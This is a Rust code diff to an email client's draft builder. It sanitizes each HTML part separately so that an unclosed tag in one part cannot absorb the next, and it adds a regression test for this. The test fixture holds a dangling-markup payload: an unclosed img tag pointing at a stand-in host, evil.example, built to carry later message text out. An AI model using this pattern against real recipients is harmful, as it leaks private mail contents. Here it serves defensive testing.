@@ -96,7 +96,14 @@ fn content(letter: &Letter, identities: &[Identity]) -> DraftContent {
     let headers = &letter.headers;
     let html = match letter.html_parts.as_slice() {
         [] => waxwing_mime::html_from_text(letter.text.as_deref().unwrap_or_default()),
-        parts => waxwing_sanitize::for_sending(&parts.join("\n")),
+        // Each by itself: a tag left open in one part must not swallow the next.
+        parts => {
+            let clean: Vec<String> = parts
+                .iter()
+                .map(|part| waxwing_sanitize::for_sending(part))
+                .collect();
+            clean.join("\n")
+        }
     };
     let sender = headers.from.iter().find_map(|from| {
         let exact = identities
@@ -119,5 +126,22 @@ fn content(letter: &Letter, identities: &[Identity]) -> DraftContent {
             receipt: !headers.receipt_to().is_empty(),
             ..Asks::default()
         },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::content;
+
+    #[test]
+    fn a_tag_left_open_in_one_part_does_not_swallow_the_next() {
+        let raw = b"From: amara@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
+            --b\r\nContent-Type: text/html\r\n\r\n<p>one</p><img src=\"https://evil.example/?\r\n\
+            --b\r\nContent-Type: text/html\r\n\r\n<p>two\"></p>\r\n--b--\r\n";
+        let letter = waxwing_mime::parse(raw);
+        assert_eq!(letter.html_parts.len(), 2, "both are read");
+        let html = content(&letter, &[]).html;
+        assert!(html.contains("<p>one</p>") && html.contains("<p>two"), "{html}");
+        assert!(!html.contains("evil.example"), "{html}");
     }
 }
